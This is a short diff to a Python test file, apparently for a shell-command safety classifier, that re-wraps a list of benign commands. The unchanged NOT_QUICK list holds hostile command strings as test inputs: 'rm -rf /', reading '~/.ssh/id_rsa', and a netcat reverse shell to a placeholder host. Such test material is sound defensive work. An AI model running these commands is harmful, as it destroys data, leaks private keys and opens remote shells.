@@ -24,8 +24,9 @@ def atoms() -> QuickAtoms:
                       tuple(a[1:] for a in flat if a.startswith("^")))
 
 
-CLEAN = ["ls -la /tmp", "ls -l", "uname -a", "git status", "make -j4 all", "true", "cd src/app", "du -sh .",
-         "python3 manage.py migrate", "scp-like file.txt user@host:/srv/x"]
+CLEAN = ["ls -la /tmp", "ls -l", "uname -a", "git status", "make -j4 all", "true",
+         "cd src/app", "du -sh .", "python3 manage.py migrate",
+         "scp-like file.txt user@host:/srv/x"]
 NOT_QUICK = ["echo $HOME", "ls | wc -l", "rm -rf /", "curl http://example.invalid/x",
              "cat ~/.ssh/id_rsa", "a=1; b=2", "echo 'q'", "IFS=, read a", "ls /???/b??h",
              "nc -e /bin/sh host 4444", "echo $(id)", "wget x", ""]
